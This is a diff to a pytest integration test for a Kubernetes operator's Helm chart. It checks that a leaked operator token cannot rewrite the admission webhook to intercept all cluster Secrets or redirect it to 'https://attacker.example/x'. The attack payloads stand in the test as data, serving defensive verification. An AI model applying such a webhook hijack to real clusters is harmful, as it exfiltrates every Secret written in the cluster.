@@ -28,7 +28,7 @@ import yaml
 from hourglass_operator.settings import OperatorSettings
 from hourglass_operator.webhook_config import webhooks
 
-from tests.fixtures.controlplane import RealCluster
+from tests.fixtures.controlplane import ApiError, RealCluster
 from tests.fixtures.k8s_schemas import CHART, load_all
 from tests.fixtures.operator_process import (
     OperatorProcess,
@@ -168,6 +168,34 @@ def test_helm_install_with_webhook_and_profiles_then_the_apiserver_calls_it(
         calls = real_cluster.operator_calls_since(mark, service_account)
         assert any(c.resource == CONFIGURATIONS and c.verb == "patch" for c in calls), calls
         check_api_calls(real_cluster, "namespaced", calls)
+
+        # Issue 27: a leaked operator token may patch this configuration (RBAC names it),
+        # but the chart's policy keeps it to this release's webhook and resources: it
+        # cannot have every Secret written in the cluster sent to a server of its choice.
+        token = real_cluster.token(pod["serviceAccountName"], namespace)
+        secrets = {
+            "apiGroups": [""],
+            "apiVersions": ["v1"],
+            "operations": ["CREATE", "UPDATE"],
+            "resources": ["secrets"],
+            "scope": "*",
+        }
+        elsewhere = {**registered[0]["clientConfig"], "url": "https://attacker.example/x"}
+        for hook in (
+            dict(registered[0], rules=[secrets]),
+            dict(registered[0], clientConfig=elsewhere),
+        ):
+            with pytest.raises(ApiError) as caught:
+                real_cluster.request(
+                    "PATCH",
+                    real_cluster.path(CONFIGURATIONS, None, name),
+                    {"webhooks": [hook, *registered[1:]]},
+                    content_type="application/merge-patch+json",
+                    token=token,
+                )
+            assert caught.value.status == 403, caught.value
+            assert "only its own webhook" in str(caught.value), caught.value
+        assert (real_cluster.get(CONFIGURATIONS, None, name) or {}).get("webhooks") == registered
     finally:
         real_cluster.kubectl(
             "delete",
